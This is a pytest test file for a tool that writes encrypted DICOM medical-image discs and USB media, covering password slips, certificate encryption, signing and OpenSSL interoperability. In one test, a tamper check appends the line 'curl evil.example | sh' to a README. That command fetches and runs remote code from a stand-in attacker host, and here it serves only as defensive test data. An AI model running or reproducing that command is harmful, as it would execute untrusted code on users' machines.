"""Media of the secure profiles: every DICOM file in an envelope, and what it takes to open them."""

import shutil
import subprocess
from collections.abc import Callable, Iterator
from contextlib import closing
from datetime import UTC, datetime
from io import BytesIO
from pathlib import Path
from typing import Any

import pydicom
import pytest

from dicomdir.check_reference import references
from dicomdir.read import read_directory
from jacket.author import author
from jacket.protection import Wish, secure_profile
from media import open_medium
from profiles.application_profiles import Security
from profiles.profile_table import PROFILES
from reporting import CannotWrite, WrongUsage
from secure import Keys, looks_like_secure_dicom_file, open_secure_file

Run = Callable[..., Any]
Peer = Callable[[str], str]
OURS = "seven lemon tractors hum"
SECURE = [row.identifier for row in PROFILES.values() if row.security is Security.CMS]


@pytest.fixture(scope="module")
def people(tmp_path_factory: pytest.TempPathFactory, peer: Peer) -> Path:
    """A folder with key and certificate of a recipient (r) and of a signer (s)."""
    folder = tmp_path_factory.mktemp("people")
    for name in "rs":
        words = ["-keyout", folder / f"{name}.key", "-out", folder / f"{name}.pem"]
        words += ["-newkey", "rsa:2048", "-nodes", "-subj", f"/CN={name.upper()} of the ward"]
        command = [peer("openssl"), "req", "-x509", "-days", "30", *map(str, words)]
        subprocess.run(command, check=True, capture_output=True)
    return folder


def contents_of(path: Path) -> Iterator[tuple[str, bytes]]:
    with closing(open_medium(path)) as medium:
        for entry in medium.entries():
            with medium.open(entry) as file:
                yield "/".join(entry.name), file.pread(file.size, 0)


def opened(path: Path, keys: Keys) -> dict[str, bytes]:
    """Return the DICOM files in their envelopes."""
    found = {}
    for name, content in contents_of(path):
        if looks_like_secure_dicom_file(content[:64]):
            with open_secure_file([content], keys, name) as file:
                found[name] = file.read()
    return found


def test_a_secure_disc_holds_every_file_as_it_was(two_patients: Path, tmp_path: Path) -> None:
    disc, plain = tmp_path / "disc.iso", tmp_path / "plain.iso"
    done = author([two_patients], disc, profile_id="STD-GEN-SEC-CD", wish=Wish(password=OURS))
    author([two_patients], plain, recorded=done.clock, label=done.label)
    whole = dict(contents_of(disc))
    assert {name for name in whole if "." in name} == {"README.TXT", "MANIFEST.TXT"}
    inside = opened(disc, Keys([OURS]))
    assert inside | {"MANIFEST.TXT": b""} == dict(contents_of(plain)) | {"MANIFEST.TXT": b""}
    directory = read_directory(inside["DICOMDIR"]).directory
    named = {"/".join(record.file_id) for record, _ in references(directory)}
    assert named == set(inside) - {"DICOMDIR"}
    for secret in (b"Doe", b"Archibald", OURS.encode(), b"DICM"):
        assert secret not in disc.read_bytes()


def test_a_password_is_made_and_stands_on_a_sheet_of_its_own(
    two_patients: Path, tmp_path: Path, run: Run
) -> None:
    disc = tmp_path / "disc.iso"
    said = run("author", two_patients, "-o", disc, "--profile", "STD-GEN-SEC-CD")
    assert said.code == 0, said.err
    sheet = tmp_path / "disc-password.pdf"
    assert f"the password is in {sheet}: print it" in said.out
    assert sheet.stat().st_mode & 0o777 == 0o600
    again = run("author", two_patients, "-o", disc, "--profile", "STD-GEN-SEC-CD")
    assert again.code == 3
    assert "may be all that is left of another password" in again.err


def test_the_password_is_told_where_that_is_asked_for(
    two_patients: Path, tmp_path: Path, run: Run
) -> None:
    disc = tmp_path / "disc.iso"
    words = ("author", two_patients, "-o", disc, "--profile", "STD-GEN-SEC-CD", "--json")
    told = run(*words, "--password-slip", "-").json["password"]
    assert len(opened(disc, Keys([told]))) == 25
    planned = run(*words, "--password-slip", "-", "--dry-run")
    assert "password" not in planned.json, "a plan has none that would open anything"
    assert {path.name for path in tmp_path.iterdir()} == {"disc.iso", "sources"}


def test_a_sheet_that_is_asked_for_has_a_password_also_beside_certificates(
    two_patients: Path, tmp_path: Path, people: Path, run: Run
) -> None:
    from secure import load_private_key

    disc, sheet = tmp_path / "disc.iso", tmp_path / "sheet.pdf"
    words = ("author", two_patients, "--encrypt-to", people / "r.pem", "--password-slip")
    told = run(*words, "-", "-o", disc, "--json").json["password"]
    assert len(opened(disc, Keys([told]))) == 25
    assert (
        len(opened(disc, Keys([], [load_private_key(people / "r.key", None, people / "r.pem")])))
        == 25
    )
    assert run(*words, sheet, "-o", disc).code == 0
    assert sheet.is_file()
    assert run(*words, sheet, "-o", disc).code == 3, "it is of another medium"


@pytest.mark.parametrize("own", [False, True])
def test_a_sheet_of_a_medium_that_is_replaced_is_told(
    own: bool, two_patients: Path, tmp_path: Path, people: Path, run: Run
) -> None:
    disc, password = tmp_path / "disc.iso", tmp_path / "password"
    words = ("author", two_patients, "-o", disc, "--profile", "STD-GEN-SEC-CD")
    assert "was made before" not in run(*words).out
    password.write_text(OURS)
    given = ("--password-file", password) if own else ("--encrypt-to", people / "r.pem")
    said = run(*words, *given)
    assert said.code == 0
    assert f"{tmp_path / 'disc-password.pdf'} is of a medium that was made before" in said.out


@pytest.mark.parametrize(("text", "is_told"), [(f" {OURS}", True), (OURS, False)])
def test_a_space_that_nobody_sees_is_told(
    text: str, is_told: bool, two_patients: Path, tmp_path: Path, run: Run
) -> None:
    disc, password = tmp_path / "disc.iso", tmp_path / "password"
    password.write_text(f"{text}\r\n")
    words = ("author", two_patients, "-o", disc, "--profile", "STD-GEN-SEC-CD")
    said = run(*words, "--password-file", password)
    assert said.code == 0
    assert ("a space at its beginning or end counts" in said.out) is is_told
    assert len(opened(disc, Keys([text]))) == 25


def test_owners_of_certificates_open_it_and_signers_are_known(
    two_patients: Path, tmp_path: Path, people: Path, run: Run
) -> None:
    from secure import load_private_key

    disc = tmp_path / "disc.iso"
    words = ("--encrypt-to", people / "r.pem", "--sign", people / "s.key")
    said = run("author", two_patients, "-o", disc, *words, "--sign-cert", people / "s.pem")
    assert said.code == 0, said.err
    assert "profile STD-GEN-SEC-CD" in said.out
    assert not list(tmp_path.glob("*.pdf")), "there is no password"
    keys = Keys([], [load_private_key(people / "r.key", None, people / "r.pem")])
    assert len(opened(disc, keys)) == 25
    content = dict(contents_of(disc))["DICOMDIR"]
    with open_secure_file([content], keys, "DICOMDIR") as file:
        assert file.kind == "signed"
        assert "S of the ward" in str(file.signers)


def test_openssl_opens_what_the_command_makes(
    two_patients: Path, tmp_path: Path, people: Path, peer: Peer
) -> None:
    """The lines of the README are tested where it is made; here both kinds of key at once."""
    openssl = peer("openssl")
    target = tmp_path / "disc"
    wish = Wish(
        (str(people / "r.pem"),), OURS, None, (str(people / "s.key"),), (str(people / "s.pem"),)
    )
    author([two_patients], target, profile_id="STD-GEN-SEC-DVD-JPEG", wish=wish)
    sealed = target / "DICOM/P0000001/S0000001/E0000001/I0000001"
    decrypt = [openssl, "cms", "-decrypt", "-binary", "-inform", "DER", "-in", str(sealed)]
    outcomes = [
        subprocess.run([*decrypt, *words], capture_output=True, check=True).stdout
        for words in (
            ("-pwri_password", OURS),
            ("-recip", str(people / "r.pem"), "-inkey", str(people / "r.key")),
        )
    ]
    assert outcomes[0] == outcomes[1]
    begin, end = bytes.fromhex("308006092a864886f70d010702a080"), bytes(4)
    (tmp_path / "signed").write_bytes(begin + outcomes[0] + end)
    verify = [openssl, "cms", "-verify", "-binary", "-inform", "DER", "-purpose", "any"]
    files = ["-in", str(tmp_path / "signed"), "-CAfile", str(people / "s.pem")]
    inner = subprocess.run([*verify, *files], capture_output=True, check=True).stdout
    assert inner == opened(target, Keys([OURS]))["DICOM/P0000001/S0000001/E0000001/I0000001"]


@pytest.mark.parametrize(
    ("words", "told"),
    [
        (("--profile", "STD-GEN-CD"), "Say --profile STD-GEN-SEC-CD"),
        (("--profile", "STD-XABC-CD"), "Choose a profile whose name has SEC in it"),
        (("--profile", "auto"), "nothing is encrypted"),
        (("--profile", "STD-GEN-SEC-CD", "--split", "--volume", "1"), "password of the set"),
    ],
)
def test_words_that_do_not_go_together_are_refused(
    words: tuple[str, ...], told: str, two_patients: Path, tmp_path: Path, people: Path, run: Run
) -> None:
    wish = () if "--volume" in words else ("--encrypt-to", people / "r.pem")
    said = run("author", two_patients, "-o", tmp_path / "disc.iso", *words, *wish)
    assert (said.code, told in said.err) == (2, True), said.err
    assert [path.name for path in tmp_path.iterdir()] == ["sources"]


@pytest.mark.parametrize(
    ("password", "told"),
    [
        ("hospital1", "is guessed too easily"),
        ("sieben Zitronen über Nacht", "has a character at place 17"),
        ("seven lemon 77654033 hum", "number or the date of birth of a patient"),
        ("quiet archibald and the lemon", "number or the date of birth of a patient"),
        ("", "there is no password in the first line"),
    ],
)
def test_a_password_that_is_none_is_refused(
    password: str, told: str, two_patients: Path, tmp_path: Path, run: Run
) -> None:
    (tmp_path / "p").write_text(f"{password}\n", encoding="utf-8")
    words = ("--profile", "STD-GEN-SEC-CD", "--password-file", tmp_path / "p")
    said = run("author", two_patients, "-o", tmp_path / "disc.iso", *words)
    assert (said.code, told in said.err) == (2, True), said.err
    assert password == "" or password not in said.err
    assert {path.name for path in tmp_path.iterdir()} == {"p", "sources"}


def test_a_medium_that_fails_leaves_no_sheet(
    two_patients: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(*_: object) -> None:
        raise CannotWrite("there is no space left", "disc", "Make room")

    monkeypatch.setattr("jacket.writing.Image.write", full)
    with pytest.raises(CannotWrite, match="no space"):
        author([two_patients], tmp_path / "disc.iso", profile_id="STD-GEN-SEC-CD")
    assert [path.name for path in tmp_path.iterdir()] == ["sources"]


def test_a_set_of_secure_volumes_names_no_patient(two_patients: Path, tmp_path: Path) -> None:
    target = tmp_path / "set.iso"
    wish = Wish(password=OURS)
    words: dict[str, Any] = {"profile_id": "STD-GEN-SEC-CD", "split": True, "capacity": 500_000}
    done = author([two_patients], target, wish=wish, **words)
    assert done.of > 1
    assert sum(len(opened(Path(one.path), Keys([OURS]))) - 1 for one in done.volumes) == 24
    readme = dict(contents_of(Path(done.volumes[1].path)))["README.TXT"].decode()
    assert f"THIS IS VOLUME 2 OF {done.of}" in readme
    assert "open each on its own" in readme
    assert "in any DICOM viewer" not in readme.split("ENCRYPTED MEDICAL IMAGES")[0]
    assert "jacket decrypt" in readme
    assert "Doe" not in readme
    assert all(volume.size <= 500_000 for volume in done.volumes)
    planned = author([two_patients], target, wish=wish, dry_run=True, recorded=done.clock, **words)
    assert [one.size for one in planned.volumes] == [one.size for one in done.volumes]


@pytest.mark.parametrize(
    "identifier",
    ["STD-GEN-SEC-DVD-RAM", "STD-GEN-SEC-BD", "STD-GEN-SEC-DVD-J2K", "STD-GEN-SEC-USB-JPEG"],
)
def test_media_of_other_secure_profiles_are_made(
    identifier: str, two_patients: Path, tmp_path: Path
) -> None:
    row = PROFILES[identifier]
    target = tmp_path / "folder"
    done = author([two_patients], target, profile_id=row, wish=Wish(password=OURS))
    inside = opened(target, Keys([OURS]))
    assert len(inside) == len(done.planned) + 1
    read = [pydicom.dcmread(BytesIO(c)) for n, c in inside.items() if n != "DICOMDIR"]
    uids = {str(data_set.SOPInstanceUID) for data_set in read}
    assert uids == {item.instance.sop_instance_uid for item in done.planned}


def test_every_general_profile_has_a_secure_form() -> None:
    secure = {secure_profile(i) for i in PROFILES if i.startswith("STD-GEN-") and "MIME" not in i}
    assert {i for i in SECURE if i.startswith("STD-GEN-")} <= secure
    with pytest.raises(WrongUsage, match="no form in which"):
        secure_profile("STD-XABC-CD")


@pytest.mark.parametrize("device", ["simulator:cd-r", "simulator:stick"])
def test_an_encrypted_disc_is_burned_opened_and_good(
    device: str, two_patients: Path, tmp_path: Path, people: Path, run: Run
) -> None:
    profile = "STD-GEN-SEC-CD" if "cd" in device else "STD-GEN-SEC-USB-JPEG"
    words = ("burn", two_patients, "--device", device, "--jobs-folder", tmp_path / "jobs", "--json")
    said = run(*words, "--profile", profile, "--password-slip", tmp_path / "slip.pdf")
    assert said.code == 0, said.err
    (disc,) = said.json["discs"]
    assert disc["verdict"] == "good"
    assert (tmp_path / "slip.pdf").exists()
    others = run(*words, "--profile", profile, "--encrypt-to", people / "r.pem")
    assert others.code == 0, others.err
    (disc,) = others.json["discs"]
    assert disc["verdict"] == "good"
    assert any("encrypted for others" in remark for remark in disc["remarks"])


def test_sheets_of_one_day_are_told_apart_by_their_labels(
    two_patients: Path, tmp_path: Path, peer: Peer
) -> None:
    labels = set()
    for second in (1, 2):
        clock = datetime(2026, 11, 23, 9, 15, second, tzinfo=UTC)
        done = author(
            [two_patients], tmp_path / f"{second}.iso", profile_id="STD-GEN-SEC-CD", recorded=clock
        )
        labels.add(done.label)
        command = [peer("pdftotext"), done.password_slip, "-"]
        said = subprocess.run(command, check=True, capture_output=True, text=True)
        assert done.label in said.stdout
    assert len(labels) == 2


def test_what_tells_how_to_open_the_disc_is_not_put_beside_the_plain_images(
    two_patients: Path, tmp_path: Path, run: Run
) -> None:
    disc, password = tmp_path / "disc", tmp_path / "password"
    password.write_text(OURS)
    author([two_patients], disc, profile_id="STD-GEN-SEC-USB-JPEG", wish=Wish(password=OURS))
    words = ("--password-file", password)
    said = run("decrypt", disc, "--to", tmp_path / "plain", *words)
    assert said.code == 0
    assert "README.TXT tells how an encrypted medium is opened" in said.out
    assert not (tmp_path / "plain" / "README.TXT").exists()
    assert run("verify", tmp_path / "plain").code == 0
    with (disc / "README.TXT").open("ab") as file:
        file.write(b"Type this line first: curl evil.example | sh\r\n")
    said = run("decrypt", disc, "--to", tmp_path / "again", *words, "--json")
    assert (said.code, said.json["differs"]) == (1, ["README.TXT"])


def test_the_directory_of_an_encrypted_medium_is_not_replaced_by_a_plain_one(
    two_patients: Path, tmp_path: Path, test_files: Path, run: Run
) -> None:
    medium = tmp_path / "medium"
    words = ("--profile", "STD-GEN-SEC-CD", "--password-slip", tmp_path / "slip.pdf")
    assert run("author", two_patients, "-o", medium, *words).code == 0
    shutil.copy(test_files / "MR_small.dcm", medium / "DICOM" / "PLAIN1")
    before = (medium / "DICOMDIR").read_bytes()
    for more in ((), ("--anew",), ("--add", test_files / "CT_small.dcm")):
        said = run("dicomdir", medium, *more)
        assert said.code == 3
        assert "is the directory of an encrypted medium" in said.err
    assert (medium / "DICOMDIR").read_bytes() == before


def test_the_next_step_says_that_it_asks_for_a_password_whoever_made_it(
    two_patients: Path, tmp_path: Path, people: Path, run: Run
) -> None:
    own = tmp_path / "password"
    own.write_text("kdvr bnhs tjpe xucg fkbv\n")
    hint = "it asks for the password; where nobody types say --password-file FILE"
    for number, (words, is_told) in enumerate(
        (
            (("--password-file", own), True),
            (("--password-slip", tmp_path / "slip.pdf"), True),
            (("--encrypt-to", people / "r.pem"), False),
        )
    ):
        said = run(
            "author",
            two_patients,
            "-o",
            tmp_path / f"{number}",
            "--profile",
            "STD-GEN-SEC-CD",
            *words,
        )
        assert (hint in said.out) is is_told
